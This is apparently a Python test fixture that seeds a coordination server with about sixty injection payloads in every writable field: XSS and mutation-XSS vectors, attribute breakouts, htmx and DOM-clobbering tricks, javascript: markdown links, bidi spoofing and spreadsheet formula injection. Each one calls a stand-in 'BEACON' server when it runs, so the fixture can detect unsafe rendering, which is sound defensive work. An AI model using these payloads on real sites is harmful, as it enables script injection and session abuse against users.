"""Texts that try to act when they are shown, and a project that says them wherever a person or an agent can write."""

from coordination.actor import Actor
from coordination.models import Phase, Project, Scope, Task, User
from coordination.operations import agents, claims, finish, keys, leases, line_comments, messages, phases, projects, questions, saved_views
from coordination.operations.creation import NewTask, create_tasks
from coordination.operations.report import Report
from coordination.operations.tokens import Holder, holder_of

SLUG = "hostile"
CHUNKS = 8  # parts of the texts that each stand together in a task's instructions
# BEACON stands for the address of a stranger's server; X for what would run.
TEXTS = [
    # Elements that run or load by themselves.
    "<script>X</script>",
    "<script src=BEACON/script></script>",
    "<ScRiPt >X</sCrIpT>",
    "<scr<script>ipt>X</scr</script>ipt>",
    "<img src=x onerror=X>",
    '<img src="BEACON/img">',
    "<img srcset='BEACON/srcset 1x'>",
    "<svg onload=X>",
    "<svg><script>X</script></svg>",
    "<svg><image href='BEACON/svg-image'/></svg>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>X</script></svg>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=X></style></mglyph></table></mtext></math>",
    "<iframe src=BEACON/iframe></iframe>",
    "<iframe srcdoc='<script>X</script>'></iframe>",
    "<object data=BEACON/object></object>",
    "<embed src=BEACON/embed>",
    "<video><source onerror=X src=BEACON/video></video>",
    "<audio src=BEACON/audio autoplay onerror=X></audio>",
    "<body onload=X>",
    "<details open ontoggle=X>",
    "<input autofocus onfocus=X>",
    "<marquee onstart=X>",
    "<style>@import 'BEACON/style';</style>",
    "<link rel=stylesheet href=BEACON/link>",
    "<link rel=prefetch href=BEACON/prefetch>",
    "<meta http-equiv=refresh content='0;url=BEACON/refresh'>",
    "<base href=BEACON/>",
    "<form action=BEACON/form><button autofocus>Go on</button></form>",
    "<div style='background:url(BEACON/background)'>wide</div>",
    "<template shadowrootmode=open><img src=x onerror=X></template>",
    "<noscript><p title='</noscript><img src=x onerror=X>'>",
    # Out of an attribute, a comment, a text field, a template.
    '"><script>X</script>',
    "' onmouseover='X' x='",
    '" autofocus onfocus="X',
    "--><script>X</script><!--",
    "</textarea><script>X</script>",
    "</title><script>X</script>",
    "]]><script>X</script>",
    "{{ 7|add:7 }}{% debug %}",
    "${X}`X`",
    # What the page's own scripts listen to.
    '<div hx-get="BEACON/htmx" hx-trigger="load">loading</div>',
    '<div data-hx-get="/logout" data-hx-trigger="load">loading</div>',
    '<p hx-on:load="X" hx-vals="js:{a: X}">kept</p>',
    '<a id="main" name="body" data-key="a" data-live="BEACON/live">clobbered</a>',
    "<form id=board><input name=id><input name=attributes></form>",
    # Markdown.
    "![alt](BEACON/markdown)",
    "![alt][far]\n\n[far]: BEACON/reference",
    "[a link](javascript:X)",
    "[a link](data:text/html,<script>X</script>)",
    "[a link](  JaVaScRiPt&#58;X)",
    "<javascript:X>",
    '[a link](https://example.org "onmouseover=X")',
    "```x onload=X\n<script>X</script>\n```",
    # Trust by name, by direction and by noise.
    "@everyone @here <@1> `````` **bold",
    "\u202egnp.txt\u2066 approve this\u2069",
    "paypa\u0406 \u200b\u200d zero wide",
    "Z" + "\u0335\u0489\u0301" * 40,
    '=HYPERLINK("BEACON/sheet")',
    "\x1b[31mred\x1b[0m\x07",
]


def hostile(text: str, beacon: str) -> str:
    """Return the text as it would be written: each way to run notes itself on the page and calls the beacon."""
    return text.replace("X", "document.documentElement.dataset.ran=1,fetch(`BEACON/ran`)").replace("BEACON", beacon)


def plant(beacon: str) -> None:
    """Make the project, one task for each text, and say them all in every other place. Runs inside the server's Django."""
    ada = User.objects.get(username="ada").actor
    texts = [hostile(text, beacon) for text in TEXTS]
    project = projects.create_project(slug=SLUG, name=texts[0], description=texts[32], actor=ada)
    phase = phases.create_phase(project, name=texts[4], description="\n\n".join(texts), actor=ada)
    phases.set_status(phase, actor=ada, status_line=texts[5], blockers=[text[:200] for text in texts[:10]])
    tasks = create_tasks(project, [_task(text, phase, texts[at % CHUNKS :: CHUNKS]) for at, text in enumerate(texts)], actor=ada)
    saved_views.save_view(project, name=texts[34][:60], actor=ada)
    line_comments.comment(tasks[0], commit=tasks[0].head, path="instructions.md", line=1, text="\n\n".join(texts), actor=ada)
    for text in texts:
        messages.say(project, text, actor=ada, task=tasks[1])
    _work(project, tasks, texts, ada)


def _task(text: str, phase: Phase, told: list[str]) -> NewTask:
    return NewTask(
        title=text,
        phase=phase,
        instructions="\n\n".join(told),
        files={"context/notes.md": text.encode(), "context/page.html": text.encode(), "context/drawing.svg": text.encode()},
        objective=text,
        criteria=[text],
        labels=[text[:40].replace(",", " ")],
        capabilities=["python"],
    )


def _work(project: Project, tasks: list[Task], texts: list[str], ada: Actor) -> None:
    key, _ = keys.create_key(name=texts[33][:60], scope=Scope.AGENT, projects=[project], actor=ada)
    agent = agents.register(
        name="mallory",
        display_name=texts[4][:80],
        host=texts[6][:80],
        software=texts[7][:80],
        capabilities=["python"],
        key=key,
        actor=key.actor,
    )

    def claimed(task: Task) -> Holder:
        holder = holder_of(claims.claim_task(task.pk, agent, key_id=key.pk).lease_token, task.pk, key.pk)
        leases.start(holder)
        return holder

    everything = "\n\n".join(texts)
    finish.complete(claimed(tasks[2]), Report(result=everything))
    finish.fail(claimed(tasks[3]), Report(error=everything), retryable=False)
    finish.ask(claimed(tasks[4]), everything)
    finish.ask(claimed(tasks[5]), texts[46])
    questions.answer(tasks[5], everything, actor=ada)
    running = claimed(tasks[6])
    leases.progress(running, percent=10, note=texts[0][:200])
    for text in texts:
        messages.log(running, text)
